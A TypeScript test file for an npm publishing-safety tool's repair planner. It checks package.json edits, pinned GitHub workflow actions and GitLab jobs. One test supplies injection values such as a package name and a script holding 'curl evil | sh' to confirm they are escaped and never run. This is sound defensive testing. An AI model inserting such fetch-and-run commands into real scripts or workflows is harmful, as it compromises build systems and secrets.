// SPDX-License-Identifier: Apache-2.0
// What `--fix` plans: an edit of package.json that changes nothing else, and a workflow that the doctor itself finds nothing in.
import { planRepair } from '@bonafide/publish'
import type { Repair } from '@bonafide/publish'
import t from 'tap'
import { parse } from 'yaml'
import { HONEST, MANIFEST, RELEASE, diagnose, edited, examine, viewOf } from './repository.ts'
import type { Files } from './repository.ts'

const ENGINE = { url: 'https://example.com/bonafide-engine.tgz', sha512: 'ab'.repeat(64) }

function repair(files: Files, engine: typeof ENGINE | null = ENGINE): Repair {
  const remote = 'https://github.com/paint/paint'
  return planRepair({ examined: examine(files), files: viewOf(files), remote }, engine)
}

/** The files once the repair is written. */
function repaired(files: Files): Files {
  return { ...files, ...Object.fromEntries(repair(files).changes.map(({ path, after }) => [path, after])) }
}

await t.test('the line is put into package.json, and nothing else changes', (check) => {
  const cases: readonly (readonly [string, string])[] = [
    [
      '{\n  "name": "a",\n  "scripts": {\n    "test": "x"\n  }\n}\n',
      '{\n  "name": "a",\n  "scripts": {\n    "prepublishOnly": "bonafide guard",\n    "test": "x"\n  }\n}\n',
    ],
    [
      '{\r\n\t"name": "a",\r\n\t"scripts": {\r\n\t\t"test": "x"\r\n\t}\r\n}',
      '{\r\n\t"name": "a",\r\n\t"scripts": {\r\n\t\t"prepublishOnly": "bonafide guard",\r\n\t\t"test": "x"\r\n\t}\r\n}',
    ],
    ['{"name":"a","scripts":{"test":"x"}}', '{"name":"a","scripts":{"prepublishOnly": "bonafide guard", "test":"x"}}'],
    ['{ "name": "a", "scripts": {} }', '{ "name": "a", "scripts": { "prepublishOnly": "bonafide guard" } }'],
    [
      '{\n    "name": "a"\n}\n',
      '{\n    "name": "a",\n    "scripts": {\n        "prepublishOnly": "bonafide guard"\n    }\n}\n',
    ],
    [
      '{\r\n  "name": "a"\r\n}\r\n',
      '{\r\n  "name": "a",\r\n  "scripts": {\r\n    "prepublishOnly": "bonafide guard"\r\n  }\r\n}\r\n',
    ],
    ['{ "name": "a" }', '{ "name": "a", "scripts": { "prepublishOnly": "bonafide guard" } }'],
    ['{"name":"a"}', '{"name":"a", "scripts": { "prepublishOnly": "bonafide guard" } }'],
    [
      '{ "name": "a",\n  "scripts": { "prepublishOnly" : "npm \\"test\\"" } }',
      '{ "name": "a",\n  "scripts": { "prepublishOnly" : "bonafide guard && npm \\"test\\"" } }',
    ],
    [
      '{ "scripts": { "prepublishOnly": "" }, "name": "a" }',
      '{ "scripts": { "prepublishOnly": "bonafide guard" }, "name": "a" }',
    ],
    [
      '{ "x": { "scripts": { "prepublishOnly": "no" } }, "name": "{}", "scripts": { "a": "b" } }',
      '{ "x": { "scripts": { "prepublishOnly": "no" } }, "name": "{}", "scripts": { "prepublishOnly": "bonafide guard", "a": "b" } }',
    ],
  ]
  for (const [before, after] of cases) {
    const files = {
      [RELEASE]: HONEST,
      'package.json': before.includes('"name": "{}"') ? before.replace('"{}"', '"a"') : before,
    }
    const { changes } = repair(files)
    check.strictSame(
      changes.map(({ path }) => path),
      ['package.json'],
      before,
    )
    check.equal(changes[0]?.after, after.replace('"{}"', '"a"'))
  }
  for (const odd of [
    '{ "name": "a", "scripts": [] }',
    '{ "name": "a", "scripts": { "prepublishOnly": 1 } }',
    '{ "name": "a", "name": "a" }',
  ]) {
    const { changes, next } = repair({ [RELEASE]: HONEST, 'package.json': odd })
    check.strictSame(changes, [], odd)
    check.match(next.join(), /package\.json by hand/u)
  }
  check.strictSame(repair({ [RELEASE]: HONEST, 'package.json': MANIFEST }).changes, [], 'it is there already')
  check.end()
})

const PLAIN = edited(MANIFEST, [
  '"scripts": { "prepublishOnly": "bonafide guard" }',
  '"scripts": { "build": "tsc", "test": "tap" }',
])
const member = (name: string): string =>
  `{ "name": "${name}", "version": "1.0.0", "repository": "paint/paint", "files": ["dist"] }`
const MANY = '{ "name": "all", "private": true, "workspaces": ["packages/*"], "scripts": { "build": "tsc" } }'
const MEMBERS = { 'packages/a/package.json': member('@paint/a'), 'packages/b/package.json': member('@paint/b') }

const PROJECTS: Readonly<Record<string, Files>> = {
  npm: { 'package.json': PLAIN, 'package-lock.json': '{}' },
  'npm workspaces': { 'package.json': MANY, 'package-lock.json': '{}', ...MEMBERS },
  pnpm: { 'package.json': PLAIN, 'pnpm-lock.yaml': '' },
  'pnpm workspaces': {
    'package.json': '{ "private": true }',
    'pnpm-workspace.yaml': 'packages: [packages/*]\n',
    'pnpm-lock.yaml': '',
    ...MEMBERS,
  },
  Yarn: { 'package.json': PLAIN, 'yarn.lock': '', '.yarnrc.yml': '' },
  'Yarn with scripts of its own': {
    'package.json': edited(PLAIN, ['"build"', '"prepack": "echo \'x\'", "build"']),
    'yarn.lock': '',
    '.yarnrc.yml': '',
  },
  'Yarn workspaces': { 'package.json': MANY, 'yarn.lock': '', '.yarnrc.yml': '', ...MEMBERS },
  'Yarn 1': { 'package.json': PLAIN, 'yarn.lock': '' },
  Bun: { 'package.json': PLAIN, 'bun.lock': '' },
  'a policy': { 'package.json': PLAIN, 'bonafide.json': '{ "version": 1 }' },
  'another release': { 'package.json': PLAIN, [RELEASE]: 'on: { push: { tags: [v1] } }\njobs: {}\n' },
}

for (const [what, files] of Object.entries(PROJECTS))
  await t.test(`the workflow that is written is clean, and so is what it stands in: ${what}`, (check) => {
    const { changes, gitlab } = repair(files)
    const workflows = changes.filter(({ path }) => path.startsWith('.github/workflows/'))
    check.equal(workflows.length, 1)
    check.equal(workflows[0]?.before, null, 'nothing is overwritten')
    check.equal(gitlab, null)
    const left = diagnose(repaired(files)).filter(
      (line) => !line.includes(`${RELEASE}:`) || files[RELEASE] === undefined,
    )
    check.strictSame(
      left.filter((line) => !line.includes('workflow-unread')),
      [],
    )
    check.strictSame(repair(repaired(files)).changes, [], 'a second run has nothing to do')
    const text = workflows[0]?.after ?? ''
    check.match(text, ENGINE.sha512)
    check.notMatch(text, /SHA512\n/u)
    const { jobs } = parse(text) as {
      readonly jobs: Readonly<
        Record<string, { readonly steps: readonly { readonly run?: string; readonly uses?: string }[] }>
      >
    }
    for (const { run = '', uses } of Object.values(jobs).flatMap(({ steps }) => steps)) {
      check.notMatch(run, /\$\{\{/u, 'nothing is put into a script')
      if (uses !== undefined) check.match(uses, /^actions\/[a-z-]+@[0-9a-f]{40}$/u)
    }
    check.end()
  })

const verifying = (sha512: string): Files => ({
  '.github/workflows/verify.yml': `on: push\njobs:\n  a:\n    steps:\n      - uses: o/bonafide@v1\n        with: { engine: 'https://example.com/e.tgz', engine-sha512: ${sha512} }\n`,
})

await t.test('the engine comes from an option, from another workflow, or is left for a person', (check) => {
  const files = { 'package.json': PLAIN }
  const text = (more: Files, engine: typeof ENGINE | null): string =>
    repair({ ...files, ...more }, engine).changes.at(-1)?.after ?? ''
  check.match(text({}, ENGINE), `ENGINE_SHA512: ${ENGINE.sha512}`)
  check.match(
    text(verifying('cd'.repeat(64)), null),
    `ENGINE: https://example.com/e.tgz\n          ENGINE_SHA512: ${'cd'.repeat(64)}`,
  )
  check.match(text(verifying('SHA512'), null), 'ENGINE_SHA512: SHA512\n', 'a digest that is none is not taken over')
  check.match(repair(files, null).next.join('\n'), /engine's address and its sha512/u)
  check.notMatch(repair(files).next.join('\n'), /engine's address/u)
  check.end()
})

await t.test('a name is never taken twice, and what releases otherwise is told', (check) => {
  const old = 'on: { push: { tags: [v1] } }\njobs:\n  a:\n    steps:\n      - run: npm publish\n'
  const files = {
    'package.json': PLAIN,
    '.github/workflows/release.yaml': old,
    '.github/workflows/bonafide-release.yml': old,
  }
  const { changes, next } = repair(files)
  check.equal(changes.at(-1)?.path, '.github/workflows/bonafide-release-2.yml')
  check.match(
    next.join('\n'),
    /npm trust github paint --repository paint\/paint --file bonafide-release-2\.yml --environment release/u,
  )
  check.match(next.join('\n'), /\.github\/workflows\/bonafide-release\.yml:5, \.github\/workflows\/release\.yaml:5/u)
  check.end()
})

await t.test('names of a repository are no commands, neither in a job nor in a fix', (check) => {
  check.strictSame(repair({ 'package.json': '{ "name": "a; curl evil | sh", "version": "1.0.0" }' }).changes, [])
  const evil = "x'; curl evil | sh; '"
  const script = JSON.stringify(`bonafide guard && ${evil}\n      - run: evil`)
  const yarn = {
    'yarn.lock': '',
    '.yarnrc.yml': '',
    'package.json': `{ "name": "a", "scripts": { "prepack": ${script} } }`,
  }
  check.notMatch(repair(yarn).changes.at(-1)?.after, /curl evil/u)
  const workflow = edited(
    HONEST,
    ['environment: release', `environment: "${evil}"\n    env:\n      NPM_TOKEN: \${{ secrets.NPM_TOKEN }}`],
    ['bonafide publish paint-1.0.0.tgz', `npm publish "${evil}.tgz"`],
  )
  const { findings } = examine({ [RELEASE]: workflow, 'package.json': MANIFEST })
  const fixes = findings.flatMap(({ fix }) => fix).filter((fix) => fix.includes('curl'))
  check.equal(fixes.length, 2, 'the environment, and the tarball')
  for (const fix of fixes) check.match(fix, String.raw`'x'\''; curl evil | sh; '\''`)
  check.end()
})

await t.test('for GitLab, jobs to put in by hand, clean as well', (check) => {
  const files = { 'package.json': PLAIN, '.gitlab-ci.yml': 'test: { script: [npm test] }\n' }
  const { changes, gitlab } = repair(files)
  check.strictSame(
    changes.map(({ path }) => path),
    ['package.json'],
  )
  // Whatever the job that builds writes there outranks the variables of the next one, its ENGINE among them.
  check.notOk(gitlab?.includes('dotenv'), 'no variables by the word of code of others')
  check.strictSame(diagnose({ ...repaired(files), '.gitlab-ci.yml': gitlab ?? '' }), [])
  check.equal(
    examine({ '.gitlab-ci.yml': gitlab ?? '' }).plans.filter(({ publishes }) => publishes.length > 0).length,
    1,
  )
  check.end()
})
